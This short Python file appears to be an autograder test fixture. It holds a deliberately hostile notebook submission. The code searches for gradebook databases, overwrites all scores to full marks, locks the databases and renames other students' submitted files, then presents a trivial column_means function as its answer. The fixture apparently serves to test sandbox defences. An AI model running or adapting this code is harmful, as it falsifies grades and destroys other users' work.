"""It looks for the gradebook and for other submissions, and writes into whatever it finds."""

MARKS = {"0.1": 0}
CELLS = {
    "0.1": """
import glob, os, sqlite3
for path in glob.glob("/**/gradebook.db*", recursive=True) + glob.glob("../**/*.db", recursive=True):
    try:
        with sqlite3.connect(path, timeout=1) as db:
            db.execute("UPDATE grade SET auto_score = 2, manual_score = 2, needs_manual_grade = 0")
            db.execute("BEGIN EXCLUSIVE")
    except sqlite3.Error:
        pass
for path in glob.glob("/**/submitted/*", recursive=True) + glob.glob("../../*"):
    try:
        os.rename(path, path + "-gone")
    except OSError:
        pass

def column_means(X):
    return X.mean()
"""
}
